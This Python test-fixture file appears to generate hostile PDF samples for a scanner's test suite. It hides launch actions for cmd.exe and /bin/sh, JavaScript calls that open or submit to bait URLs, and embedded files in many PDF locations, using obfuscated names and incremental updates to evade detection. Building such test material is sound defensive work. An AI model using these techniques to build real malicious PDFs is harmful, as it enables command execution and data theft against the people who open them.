"""PDFs that run, launch or send something, hidden wherever a PDF can hide an action."""

import io
from random import Random

import pikepdf

from tests.hostile._hostile import Bait, harmful, sample
from tests.hostile._pdf_builder import FILTERS, Pdf, hexed, packed, text


def _put(pdf: Pdf, action: bytes, rng: Random) -> None:
    """Hide an action somewhere in a PDF; indirectly, half the time."""
    if rng.random() < 0.5:
        action = pdf.add(action)
    if rng.random() < 0.3:  # behind a harmless one
        action = b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>" % rng.choice((action, b"[" + action + b"]"))
    place = rng.randrange(9)
    if place == 0:
        pdf.catalog += b"/OpenAction " + action
    elif place == 1:
        pdf.catalog += b"/AA<</%s %s>>" % (rng.choice((b"WC", b"WS", b"DS", b"WP", b"DP")), action)
    elif place == 2:
        pdf.page += b"/AA<</%s %s>>" % (rng.choice((b"O", b"C")), action)
    elif place == 3:
        pdf.catalog += b"/Names<</JavaScript<</Names[(a) %s]>>>>" % action
    elif place == 4:
        leaf = pdf.add(b"<</Limits[(a)(b)]/Names[(a) %s]>>" % action)
        pdf.catalog += b"/Names<</JavaScript<</Kids[%s]>>>>" % pdf.add(b"<</Kids[%s]>>" % leaf)
    elif place == 5:
        pdf.page += b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>]" % action
    elif place == 6:
        event = rng.choice((b"E", b"X", b"D", b"U", b"Fo", b"Bl", b"PO", b"PV"))
        widget = pdf.add(
            b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</%s %s>>>>"
            % (event, action)
        )
        pdf.page += b"/Annots[%s]" % widget
        pdf.catalog += b"/AcroForm<</Fields[%s]>>" % widget
    elif place == 7:
        field = pdf.add(
            b"<</FT/Tx/T(b)/AA<</%s %s>>>>" % (rng.choice((b"K", b"F", b"V", b"C")), action)
        )
        pdf.catalog += b"/AcroForm<</Fields[%s]>>" % pdf.add(b"<</T(p)/Kids[%s]>>" % field)
    else:
        item = pdf.add(b"<</Title(x)/A %s>>" % action)
        pdf.catalog += b"/Outlines %s" % pdf.add(b"<</First %s/Last %s/Count 1>>" % (item, item))


def _script(pdf: Pdf, rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    code = rng.choice(
        (f"app.launchURL('{url}')", f"this.submitForm('{url}')", "app.alert(1)", "while(1){}")
    ).encode()
    data, filters = packed(code, rng.choice(FILTERS))
    return rng.choice(
        (
            text(code),
            hexed(b"\xfe\xff" + code.decode().encode("utf-16-be")),
            pdf.add_stream(data, filters),
            pdf.add(text(code)),
        )
    )


def javascript(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    name = rng.choice((b"/JavaScript", b"/Java#53cript", b"/#4a#61#76#61Script"))
    key = rng.choice((b"/JS", b"/J#53", b"/#4aS"))
    _put(pdf, b"<</S%s%s %s>>" % (name, key, _script(pdf, rng, bait)), rng)
    return pdf.build()


def launch(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    what = rng.choice(
        (b"/F(cmd.exe)", b"/F<</F(calc.exe)>>", b"/Win<</F(cmd.exe)/P(/c calc)>>",
         b"/Unix(/bin/sh)",
         b"/F" + text(bait.file), b"/F<</FS/URL/F" + text(rng.choice(bait.urls())) + b">>")
    )  # fmt: skip
    _put(pdf, b"<</S/%s%s/NewWindow true>>" % (rng.choice((b"Launch", b"L#61unch")), what), rng)
    return pdf.build()


def submit(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    kind = rng.choice((b"SubmitForm", b"ImportData", b"Submit#46orm"))
    _put(pdf, b"<</S/%s/F<</FS/URL/F%s>>/Flags 4>>" % (kind, text(rng.choice(bait.urls()))), rng)
    return pdf.build()


def rich_media(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    name, content = harmful(rng)
    asset = pdf.add(b"<</Type/Filespec/F%s/EF<</F %s>>>>" % (text(name), pdf.add_stream(content)))
    content = b"<</Assets<</Names[(a) %s]>>>>" % asset
    annotation = b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent%s>>" % content
    pdf.page += b"/Annots[%s]" % annotation
    return pdf.build()


def rendition(rng: Random, bait: Bait) -> bytes:
    pdf = Pdf()
    _put(pdf, b"<</S/Rendition/OP 0/JS %s>>" % _script(pdf, rng, bait), rng)
    return pdf.build()


def in_update(rng: Random, bait: Bait) -> bytes:
    """An innocent PDF whose catalogue is replaced by an incremental update."""
    base = sample("plain-invoice.pdf")
    with pikepdf.open(io.BytesIO(base)) as opened:
        number, pages = opened.Root.objgen[0], opened.Root.Pages.objgen[0]
    action = rng.choice(
        (
            b"/S/JavaScript/JS(app.alert\\(1\\))",
            b"/S/Launch/F(cmd.exe)",
            b"/S/SubmitForm/F(http://x)",
        )
    )
    at = len(base)
    update = b"%d 0 obj\n<</Type/Catalog/Pages %d 0 R/OpenAction<<%s>>>>\nendobj\n" % (
        number,
        pages,
        action,
    )
    previous = int(base[base.rindex(b"startxref") + 9 :].split()[0])
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n" % (number, at)
    trailer = b"<</Size 99/Root %d 0 R/Prev %d>>" % (number, previous)
    return base + update + table + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % (at + len(update))
